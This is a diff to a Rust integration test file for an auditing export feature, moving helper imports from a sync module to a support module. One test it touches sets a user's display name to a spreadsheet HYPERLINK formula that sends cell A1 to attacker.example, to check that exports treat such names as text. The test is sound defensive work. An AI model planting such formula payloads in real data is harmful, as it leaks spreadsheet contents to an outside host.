@@ -1,7 +1,7 @@
 //! Auditors: exports and their verification against a live server, and one user's timeline.
 
 use crate::support::idledger;
-use crate::sync::{world, World};
+use crate::support::{world, World};
 use reqwest::{Method, StatusCode};
 use serde_json::{json, Value};
 use std::path::Path;
@@ -385,11 +385,11 @@ async fn a_users_timeline_tells_the_whole_story_in_order() {
 /// export still verifies.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn formula_looking_names_are_exported_as_text_and_still_verify() {
-    let w = crate::sync::world(json!({"auto_import": true})).await;
+    let w = crate::support::world(json!({"auto_import": true})).await;
     let evil = "=HYPERLINK(\"http://attacker.example/?q=\"&A1,\"Click\")";
     w.sim(
         Method::PATCH,
-        &format!("/_sim/users/{}", crate::sync::ext(3)),
+        &format!("/_sim/users/{}", crate::support::ext(3)),
         Some(json!({"displayName": evil})),
     )
     .await;
